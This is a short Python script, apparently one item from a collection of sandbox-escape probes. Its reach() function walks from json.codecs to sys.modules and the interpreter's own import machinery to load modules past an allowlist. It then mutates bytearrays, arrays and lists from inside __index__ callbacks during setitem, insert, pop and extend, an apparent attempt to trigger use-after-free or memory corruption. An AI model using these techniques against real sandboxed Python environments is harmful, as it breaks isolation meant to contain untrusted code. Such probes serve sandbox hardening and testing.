# trick: shrink a bytearray from inside the __index__ of an assignment to it
# want: any


def reach(name):
    """The module of that name, past the allowlist: a loaded one, else through the interpreter's own import."""
    import json
    codecs = json.codecs
    modules = codecs.sys.modules
    if modules.get(name) is None:
        try:
            codecs.builtins.__import__(name)
        except ImportError:
            modules["_frozen_importlib"]._gcd_import(name)
    print("reached", name)
    return modules[name]


def run(ctx):
    results = []
    array = reach("array").array
    for make in (lambda: bytearray(b"x" * 500000), lambda: array("b", b"x" * 500000), lambda: [0] * 100000):
        target = make()

        class Shrink:
            def __index__(self):
                target.clear() if hasattr(target, "clear") else target.__delitem__(slice(None))
                return 65

        for act in (lambda: target.__setitem__(4000, Shrink()), lambda: target.__setitem__(slice(0, 10), [Shrink()] * 9), lambda: target.insert(Shrink(), 1), lambda: target.index(0, Shrink()),
                    lambda: target.extend([Shrink(), Shrink()]), lambda: target.pop(Shrink())):
            try:
                target = make()
                results.append(repr(act())[:20])
            except Exception as e:
                results.append(type(e).__name__)
    return results
